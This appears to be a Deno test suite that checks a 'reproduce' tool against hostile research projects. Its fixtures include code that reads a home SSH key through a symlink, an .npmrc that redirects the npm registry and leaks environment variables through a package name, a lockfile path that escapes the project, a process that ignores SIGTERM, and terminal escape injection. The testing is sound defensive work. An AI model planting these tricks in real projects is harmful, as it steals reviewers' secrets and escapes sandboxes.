/**
 * `reproduce` on a project whose files other than its code are hostile:
 * the recording folder it copies by default is a link to the reviewer's
 * home, an `.npmrc` sends Deno's npm downloads to a server of the author's,
 * the project's `deno.json` puts its lockfile outside the scratch copy, the
 * re-run ignores the signal its time limit sends, and its output and file
 * names carry terminal escapes. Each is judged on what happened, not on
 * what reproduce says: the bytes it printed, a 127.0.0.1 listener's
 * connection count, the files outside, the time it took.
 */

import assert from "node:assert/strict";
import { childEnvironment } from "../_child_runs.ts";
import {
  projectFolder,
  reproduceCommand,
  runAuthor,
  snapshot,
  TIDEPOOL_MOD,
} from "../bundle/_paper_project.ts";
import { reproduceBundle } from "../../lib/bundle/reproduce_bundle.ts";

const HOME_SECRET = "-----BEGIN OPENSSH PRIVATE KEY----- fake-home-secret-b3e1";

const PAPER = `import * as aq from "arquero";
import { saveBundle } from "${TIDEPOOL_MOD}";
await saveBundle("out/bundle", { draft: true, tables: { counts: aq.table({ n: [1, 2, 3] }) } });
`;

/** A scene: the reviewer's home with a key, a folder outside, and a project whose paper was run. */
async function scene(prefix: string) {
  const root = await Deno.makeTempDir({ prefix });
  const home = `${root}/home`;
  const outside = `${root}/outside`;
  const project = `${root}/project`;
  await Deno.mkdir(`${home}/.ssh`, { recursive: true });
  await Deno.writeTextFile(`${home}/.ssh/id_rsa`, HOME_SECRET);
  await Deno.mkdir(outside);
  await Deno.writeTextFile(`${outside}/keep.txt`, "the reviewer's own file");
  await projectFolder(project);
  await Deno.writeTextFile(`${project}/paper.ts`, PAPER);
  await runAuthor(project, "paper.ts");
  const environment = childEnvironment({ HOME: home });
  return { root, home, outside, project, environment };
}

/** A loopback listener that counts every connection and closes it. */
function listener() {
  const server = Deno.listen({ hostname: "127.0.0.1", port: 0 });
  let connections = 0;
  const accepting = (async () => {
    for await (const connection of server) {
      connections++;
      connection.close();
    }
  })().catch(() => {});
  return {
    port: server.addr.port,
    get connections() {
      return connections;
    },
    async close() {
      server.close();
      await accepting;
    },
  };
}

Deno.test("the default recording that links to the reviewer's home is not copied: the re-run never reads the home folder", async () => {
  const { root, home, project, environment } = await scene("tidepool-recording-link-");
  try {
    // The author ships .cache/tidepool as a link to "their" recording: on the reviewer's
    // machine it names the home folder. reproduce copies the recording into the scratch copy.
    await Deno.remove(`${project}/.cache/tidepool`, { recursive: true });
    await Deno.symlink(home, `${project}/.cache/tidepool`);
    await Deno.writeTextFile(
      `${project}/paper.ts`,
      `const recording = Deno.env.get("TIDEPOOL_CACHE_DIR");
let loot = "";
try { loot = Deno.readTextFileSync(recording + "/.ssh/id_rsa"); } catch { /* on */ }
if (loot) throw new Error("found " + loot);
${PAPER}`,
    );
    const run = await reproduceCommand(
      [`${project}/out/bundle`, `${project}/paper.ts`],
      environment,
    );
    const printed = run.stdout + run.stderr;
    assert.ok(
      !printed.includes(HOME_SECRET.slice(-16)),
      `reproduce printed the home's key:\n${printed}`,
    );
    assert.notEqual(run.code, 0, printed);
  } finally {
    await Deno.remove(root, { recursive: true });
  }
});

Deno.test("an .npmrc in the project sends nothing to its registry: no connection reaches a loopback listener", async () => {
  const { root, project, environment } = await scene("tidepool-npmrc-");
  const net = listener();
  try {
    await Deno.writeTextFile(`${project}/.npmrc`, `registry=http://127.0.0.1:${net.port}/\n`);
    // The re-run asks Deno for an npm package named after what it found: Deno downloads
    // npm packages itself, without the run's --deny-net.
    await Deno.writeTextFile(
      `${project}/paper.ts`,
      `const found = [...new TextEncoder().encode(JSON.stringify(Deno.env.toObject()).slice(0, 40))]
  .map((b) => b.toString(16).padStart(2, "0")).join("");
try { await import(["npm:", "loot-", found, "@1.0.0"].join("")); } catch { /* on */ }
${PAPER}`,
    );
    const run = await reproduceCommand(
      [`${project}/out/bundle`, `${project}/paper.ts`],
      environment,
    );
    assert.equal(net.connections, 0, `the author's registry was reached:\n${run.stderr}`);
  } finally {
    await net.close();
    await Deno.remove(root, { recursive: true });
  }
});

Deno.test("the project's deno.json cannot put its lockfile outside the scratch copy", async () => {
  const { root, outside, project, environment } = await scene("tidepool-lock-path-");
  try {
    const before = await snapshot(outside);
    const config = JSON.parse(await Deno.readTextFile(`${project}/deno.json`));
    await Deno.writeTextFile(
      `${project}/deno.json`,
      JSON.stringify({ ...config, lock: { path: `${outside}/written.lock` } }),
    );
    // An npm package tidepool's own lock holds (so it is in Deno's cache): Deno writes its lock.
    await Deno.writeTextFile(`${project}/paper.ts`, `import "npm:canonicalize@2.1.0";\n`);
    const run = await reproduceCommand(
      [`${project}/out/bundle`, `${project}/paper.ts`],
      environment,
    );
    assert.deepEqual(
      await snapshot(outside),
      before,
      `a file was written outside the project:\n${run.stdout}${run.stderr}`,
    );
  } finally {
    await Deno.remove(root, { recursive: true });
  }
});

Deno.test("a re-run that ignores SIGTERM still ends at the time limit", async () => {
  const { root, project } = await scene("tidepool-sigterm-");
  try {
    await Deno.writeTextFile(
      `${project}/paper.ts`,
      `Deno.addSignalListener("SIGTERM", () => {});
await new Promise((resolve) => setTimeout(resolve, 20_000));
`,
    );
    const started = Date.now();
    await assert.rejects(
      reproduceBundle(`${project}/out/bundle`, `${project}/paper.ts`, { timeoutMs: 1_500 }),
    );
    const took = Date.now() - started;
    assert.ok(took < 10_000, `reproduce took ${took} ms with a 1.5 s limit`);
  } finally {
    await Deno.remove(root, { recursive: true });
  }
});

Deno.test("reproduce prints no terminal escape of the re-run's: neither its error nor a table's file name", async () => {
  const { root, project, environment } = await scene("tidepool-escapes-");
  try {
    const paint = "\\u001b[2J\\u001b[H\\u001b]0;ok\\u0007reproduced: 1 of 1 tables";
    await Deno.writeTextFile(`${project}/paper.ts`, `throw new Error("${paint}");\n`);
    const failed = await reproduceCommand(
      [`${project}/out/bundle`, `${project}/paper.ts`],
      environment,
    );
    await Deno.writeTextFile(
      `${project}/paper.ts`,
      `${PAPER}await Deno.copyFile("out/bundle/counts.parquet", "out/bundle/${paint}.parquet");\n`,
    );
    const listed = await reproduceCommand(
      [`${project}/out/bundle`, `${project}/paper.ts`],
      environment,
    );
    for (const run of [failed, listed]) {
      const printed = run.stdout + run.stderr;
      assert.equal(run.code, 1, printed);
      for (const control of ["\u001b", "\u0007"]) {
        assert.ok(
          !printed.includes(control),
          `reproduce printed the re-run's escapes:\n${printed}`,
        );
      }
    }
  } finally {
    await Deno.remove(root, { recursive: true });
  }
});
